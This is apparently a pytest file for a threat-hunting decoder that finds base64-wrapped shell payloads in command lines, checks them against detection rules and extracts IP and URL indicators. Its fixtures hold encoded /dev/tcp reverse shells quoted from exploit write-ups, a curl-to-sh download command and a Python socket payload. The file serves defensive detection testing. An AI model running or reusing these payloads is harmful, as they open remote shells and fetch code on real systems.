"""Base64 payloads: shapes, decoded text through the risky rules and IoC extraction, bounds.

Every decoded text below was checked with coreutils (`echo TOKEN | base64 -d`), not with this code.
"""

from __future__ import annotations

import base64

import pytest

from hunting.analysis.decode import (
    B64_MAX_TOKEN_CHARS,
    B64_MAX_TOKENS,
    B64_MAX_TOTAL_CHARS,
    GENERIC,
    analyse_payloads,
    decode_payloads,
)
from hunting.analysis.risky import match_commands

# Public payloads as written in exploitation write-ups found through the code index:
# a RogueJndi command from an HTB "Unified" (Log4j) write-up, and a javassist gadget from a Java
# deserialisation write-up. `base64 -d` gives "bash -c bash -i >&/dev/tcp/10.10.16.95/4545 0>&1\n"
# and "bash -i >& /dev/tcp/49.232.206.37/23456 0>&1".
_ROGUEJNDI = "bash -c {echo,YmFzaCAtYyBiYXNoIC1pID4mL2Rldi90Y3AvMTAuMTAuMTYuOTUvNDU0NSAwPiYxCg==}|{base64,-d}|{bash,-i}"
_JAVASSIST = (
    'Runtime.getRuntime().exec("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC80OS4yMzIuMjA2LjM3LzIzNDU2IDA+JjE=}'
    '|{base64,-d}|{bash,-i}");'
)
# Built for these tests from the shapes issue 13 lists (not captured from a host); tokens made with
# `printf '...' | base64 -w0` and checked back with `base64 -d`.
_CURL = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgc2g="  # curl -s http://198.51.100.23/x.sh | sh
_PY = "aW1wb3J0IHNvY2tldCxvcztzPXNvY2tldC5zb2NrZXQoKTtzLmNvbm5lY3QoKCIyMDMuMC4xMTMuNSIsNDQ0NCkp"


def test_brace_echo_real_payloads() -> None:
    (one,) = decode_payloads(_ROGUEJNDI)
    assert one.shape == "brace_echo" and one.depth == 1
    assert one.text == "bash -c bash -i >&/dev/tcp/10.10.16.95/4545 0>&1\n"
    assert _ROGUEJNDI[one.start : one.end] == one.token
    (two,) = decode_payloads(_JAVASSIST)
    assert (two.shape, two.text) == ("brace_echo", "bash -i >& /dev/tcp/49.232.206.37/23456 0>&1")


@pytest.mark.parametrize(
    ("command", "shape"),
    [
        (f"echo {_CURL} | base64 -d | sh", "echo_pipe"),
        (f"echo '{_CURL}' | base64 --decode | bash", "echo_pipe"),
        (f'bash -c "$(echo {_CURL} | base64 -d)"', "subshell_echo"),
        (f'sh -c "`echo -n {_CURL} | base64 -D`"', "subshell_echo"),
        (f"base64 -d <<< {_CURL} | sh", "here_string"),
        (f"bash -c {{echo,{_CURL}}}|{{base64,--decode}}|{{bash,-i}}", "brace_echo"),
        (f"logger {_CURL}", GENERIC),
    ],
)
def test_shapes(command: str, shape: str) -> None:
    (one,) = decode_payloads(command)
    assert (one.shape, one.text) == (shape, "curl -s http://198.51.100.23/x.sh | sh")


def test_python_b64decode() -> None:
    cmd = f"python3 -c \"import base64;exec(base64.b64decode('{_PY}'))\""
    (one,) = decode_payloads(cmd)
    assert one.shape == "python_b64decode"
    assert one.text == 'import socket,os;s=socket.socket();s.connect(("203.0.113.5",4444))'


def test_decoded_text_goes_through_rules_and_iocs() -> None:
    (rev,) = analyse_payloads(_ROGUEJNDI)
    assert ("lnx.reverse_shell_dev_tcp", "/dev/tcp/10.10.16.95/4545") in [(r[0], r[3]) for r in rev.rules]
    assert ("ipv4", "10.10.16.95") in rev.iocs
    assert rev.decoded.token in _ROGUEJNDI  # the original is there to show next to the decoded text
    (curl,) = analyse_payloads(f"echo {_CURL} | base64 -d | sh")
    assert "lnx.download_pipe_shell" in [r[0] for r in curl.rules]
    assert curl.iocs == [("url", "http://198.51.100.23/x.sh"), ("ipv4", "198.51.100.23")]
    (py,) = analyse_payloads(f"python3 -c \"import base64;exec(base64.b64decode('{_PY}'))\"")
    assert py.iocs == [("ipv4", "203.0.113.5")]


def test_two_layers() -> None:
    # `printf 'echo <inner> | base64 -d | bash' | base64 -w0`, inner = base64 of a /dev/tcp shell.
    outer = "ZWNobyBZbUZ6YUNBdGFTQStKaUF2WkdWMkwzUmpjQzh5TURNdU1DNHhNVE11Tnk4ME5EUTBJREErSmpFPSB8IGJhc2U2NCAtZCB8IGJhc2g="
    found = decode_payloads(f"bash -c {{echo,{outer}}}|{{base64,-d}}|{{bash,-i}}")
    assert [(d.depth, d.shape, d.parent) for d in found] == [(1, "brace_echo", -1), (2, "echo_pipe", 0)]
    assert found[1].text == "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    analysed = analyse_payloads(f"bash -c {{echo,{outer}}}|{{base64,-d}}|{{bash,-i}}")
    assert ("ipv4", "203.0.113.7") in analysed[1].iocs
    # risky.match_commands reaches the same inner payload (it decodes with this module)
    hits = match_commands(
        __import__("pandas").Series([f"bash -c {{echo,{outer}}}|{{base64,-d}}|{{bash,-i}}"])
    )
    assert "lnx.reverse_shell_dev_tcp" in set(hits.loc[hits["Decoded"], "RuleId"])


@pytest.mark.parametrize(
    "command",
    [
        "ls /opt/microsoft/omsagent/plugin/configuration",  # lower-case path runs are not tokens
        "echo aGVsbG8= | base64 -d",  # shorter than B64_MIN_CHARS
        "echo " + base64.b64encode(bytes(range(256))).decode() + " | base64 -d",  # binary, not text
        "",
    ],
)
def test_not_payloads(command: str) -> None:
    assert decode_payloads(command) == []


def test_bounds_on_hostile_input() -> None:
    # A 70,000-character token decodes (only text) and is flagged when beyond the cap.
    big = base64.b64encode(b"A" * 52_500).decode()
    assert len(big) == 70_000
    (one,) = decode_payloads(f"echo {big} | base64 -d | sh")
    assert len(one.text) == 52_500 and not one.truncated
    huge = base64.b64encode(b"B" * (B64_MAX_TOKEN_CHARS)).decode()
    (cut,) = decode_payloads(f"echo {huge} | base64 -d | sh")
    assert cut.truncated and len(cut.text) == B64_MAX_TOKEN_CHARS * 3 // 4
    # Thousands of tokens: only the longest B64_MAX_TOKENS are tried.
    many = " ".join(base64.b64encode(f"token number {i:06d}".encode()).decode() for i in range(5_000))
    assert len(decode_payloads(many)) == B64_MAX_TOKENS
    # The decoded text kept per command is capped.
    wide = " ".join(base64.b64encode(bytes([65 + i]) * 200_000).decode() for i in range(8))
    total = sum(len(d.text) for d in decode_payloads(wide))
    assert total == B64_MAX_TOTAL_CHARS
